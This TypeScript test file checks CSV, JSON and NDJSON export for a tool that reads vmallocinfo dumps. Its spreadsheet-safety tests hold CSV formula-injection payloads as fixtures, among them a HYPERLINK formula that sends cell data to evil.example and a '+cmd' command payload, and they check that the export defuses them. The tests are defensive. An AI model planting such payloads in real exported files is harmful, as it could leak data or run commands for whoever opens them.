import { describe, expect, it } from 'vitest';
import { buildModel } from '../model/model.ts';
import { parse } from '../parse/scanner.ts';
import { fixture, readIndependently } from '../testing/fixtures.ts';
import { EXPORT_COLUMNS, csvField, exportRow, exportRows, isoTime, toCsv, toJson, toNdjson } from './export.ts';

const model = (text: string) => buildModel(parse(new TextEncoder().encode(text)));

/** A small RFC 4180 reader for the test: quoted fields with doubled quotes, LF line ends. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(field);
      field = '';
    } else if (ch === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else field += ch;
  }
  return rows;
}

const FILE = 'kernels/x86_64-6.1.0-56-after-insmod-raw.vmallocinfo';

describe('export rows', () => {
  const text = fixture(FILE);
  const expected = readIndependently(text);
  const m = model(text);

  it('writes one NDJSON object per area whose addresses read back exactly', () => {
    const lines = toNdjson(m).split('\n');
    expect(lines.pop()).toBe('');
    expect(lines.length).toBe(expected.areas.length);
    lines.forEach((line, k) => {
      const row = JSON.parse(line);
      const e = expected.areas[k];
      expect(Object.keys(row)).toEqual([...EXPORT_COLUMNS]);
      expect(row.start).toMatch(/^0x[0-9a-f]{16}$/);
      expect([BigInt(row.start), BigInt(row.end), row.size, row.pages, row.line]).toEqual([e.start, e.end, e.size, e.pages, e.line]);
      expect([row.kind, row.caller, row.module]).toEqual([e.kind, e.caller?.symbol ?? null, e.caller?.module ?? null]);
      expect(row.offset).toBe(e.caller ? e.caller.offset : null);
      expect(row.nodes).toBe(e.nodes.length ? e.nodes.map((n) => `N${n.node}=${n.pages}`).join(' ') : null);
      expect(row.phys === null ? null : BigInt(row.phys)).toBe(e.phys);
    });
  });

  it('writes a CSV header and one row per area with the same values', () => {
    const rows = readCsv(toCsv(m));
    expect(rows[0]).toEqual([...EXPORT_COLUMNS]);
    expect(rows.length).toBe(expected.areas.length + 1);
    const col = (name: string) => EXPORT_COLUMNS.indexOf(name as (typeof EXPORT_COLUMNS)[number]);
    rows.slice(1).forEach((r, k) => {
      expect(BigInt(r[col('start')])).toBe(expected.areas[k].start);
      expect(Number(r[col('size')])).toBe(expected.areas[k].size);
      expect(r[col('module')]).toBe(expected.areas[k].caller?.module ?? '');
    });
  });

  it('writes a JSON array holding the same objects as the NDJSON, and [] for no areas', () => {
    const array = JSON.parse(toJson(m, [7, 3, 0]));
    expect(Array.isArray(array)).toBe(true);
    expect(array.map((r: { line: number }) => r.line)).toEqual([expected.areas[7].line, expected.areas[3].line, expected.areas[0].line]);
    expect(array).toEqual(toNdjson(m, [7, 3, 0]).trim().split('\n').map((l) => JSON.parse(l)));
    expect(JSON.parse(toJson(m, []))).toEqual([]);
  });

  it('gives every row of the CSV, JSON and NDJSON the host, moment and time it is told (the table’s buttons, as the CLI)', () => {
    const time = Date.UTC(2026, 10, 30, 7, 1, 9);
    const context = { host: 'db01', moment: 7, time };
    const rows = readCsv(toCsv(m, [4, 1], context));
    const col = (name: string) => EXPORT_COLUMNS.indexOf(name as (typeof EXPORT_COLUMNS)[number]);
    for (const r of rows.slice(1)) expect([r[col('host')], r[col('moment')], r[col('time')]]).toEqual(['db01', '7', '2026-11-30T07:01:09.000Z']);
    for (const r of [...JSON.parse(toJson(m, [4, 1], context)), ...toNdjson(m, [4, 1], context).trim().split('\n').map((l) => JSON.parse(l))]) {
      expect([r.host, r.moment, r.time]).toEqual(['db01', 7, '2026-11-30T07:01:09.000Z']);
    }
  });

  it('exports only the areas asked for, in the order given', () => {
    const rows = toNdjson(m, [5, 2]).trim().split('\n').map((l) => JSON.parse(l));
    expect(rows.map((r) => r.line)).toEqual([expected.areas[5].line, expected.areas[2].line]);
    expect(toCsv(m, []).split('\n').length).toBe(2);
  });

  it('quotes CSV fields per RFC 4180', () => {
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(null)).toBe('');
    expect(csvField(42)).toBe('42');
    expect(readCsv(csvField('x,"y"\nz') + '\n')).toEqual([['x,"y"\nz']]);
  });

  it('prints hashed and zeroed addresses as the kernel did and masked ones as null', () => {
    const hashedText = fixture('kernels/x86_64-6.1.0-56-after-insmod-hashed.vmallocinfo');
    const first = [...exportRows(model(hashedText))][0];
    expect(`${first.start}-${first.end}`).toBe(hashedText.split('\n')[0].split(/\s+/)[0]);
    const zero = [...exportRows(model(fixture('kernels/x86_64-6.1.0-56-after-insmod-zeroed.vmallocinfo')))][0];
    expect([zero.start, zero.end]).toEqual(['0x0000000000000000', '0x0000000000000000']);
    const masked = [...exportRows(model(fixture('seeds/ptrval-masked.vmallocinfo')))][0];
    expect([masked.start, masked.end]).toEqual([null, null]);
  });

  it('keeps the 8-digit width of a 32-bit dump', () => {
    const rows = [...exportRows(model('0xf7c00000-0xf7c02000    8192 foo+0x1/0x2 pages=1 vmalloc\n'))];
    expect([rows[0].start, rows[0].end]).toEqual(['0xf7c00000', '0xf7c02000']);
  });
});

describe('CSV cells a spreadsheet would run', () => {
  it('prefixes text starting with =, +, -, @, tab or CR with a quote, keeping RFC 4180 quoting', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"x")')).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
    expect(csvField("+cmd|' /C calc'!A0")).toBe(`'+cmd|' /C calc'!A0`);
    expect(csvField('-2+3')).toBe(`'-2+3`);
    expect(csvField('@SUM(A1)')).toBe(`'@SUM(A1)`);
    expect(csvField('\t=1')).toBe(`'\t=1`);
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
    expect(readCsv(csvField('=1,2') + '\n')).toEqual([["'=1,2"]]);
  });

  it('keeps numbers, negative ones included, and ordinary text as they are', () => {
    expect(csvField(-5)).toBe('-5');
    expect(csvField(-0.5)).toBe('-0.5');
    expect(csvField('alloc_large_system_hash')).toBe('alloc_large_system_hash');
    expect(csvField('0xffffc90000004000')).toBe('0xffffc90000004000');
    expect(csvField('a=b')).toBe('a=b');
  });

  it('defuses formulas a hostile dump puts in the caller, module and flag words, and nothing else', () => {
    const text = [
      '0xffffc90000000000-0xffffc90000002000    8192 =HYPERLINK("http://x")+0x1/0x2 [@evil] pages=1 vmalloc +cmd|calc -bad',
      '0xffffc90000002000-0xffffc90000004000    8192 fine+0x1/0x2 [mod] pages=1 vmalloc N0=1',
      '',
    ].join('\n');
    const rows = readCsv(toCsv(model(text)));
    const col = (name: string) => EXPORT_COLUMNS.indexOf(name as (typeof EXPORT_COLUMNS)[number]);
    expect([rows[1][col('caller')], rows[1][col('module')], rows[1][col('flags')]]).toEqual([`'=HYPERLINK("http://x")`, `'@evil`, `vmalloc +cmd|calc -bad`]);
    expect(rows[2].slice(1)).toEqual(['0xffffc90000002000', '0xffffc90000004000', '8192', '1', 'vmalloc', 'fine', '1', 'mod', '', 'vmalloc', 'N0=1', '', '', '']);
    for (const row of rows.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('gives each row the host, moment and time it is told, the time as ISO 8601 in UTC', () => {
    const m = model('0xffffc90000000000-0xffffc90000002000    8192 f+0x1/0x2 pages=1 vmalloc\n');
    const ms = Date.UTC(2026, 10, 30, 0, 59, 6);
    expect(exportRow(m, 0, { host: 'db01', moment: 3, time: ms })).toMatchObject({ host: 'db01', moment: 3, time: '2026-11-30T00:59:06.000Z' });
    expect(exportRow(m, 0)).toMatchObject({ host: null, moment: null, time: null });
    expect(exportRow(m, 0, { host: '' }).host).toBeNull();
  });

  it('writes no time a Date could not print as YYYY-MM-DDTHH:MM:SS.sssZ', () => {
    expect(isoTime(0)).toBe('1970-01-01T00:00:00.000Z');
    expect(isoTime(253402300799999)).toBe('9999-12-31T23:59:59.999Z');
    for (const bad of [253402300800000, -1, NaN, Infinity, null, undefined]) expect(isoTime(bad)).toBeNull();
  });
});
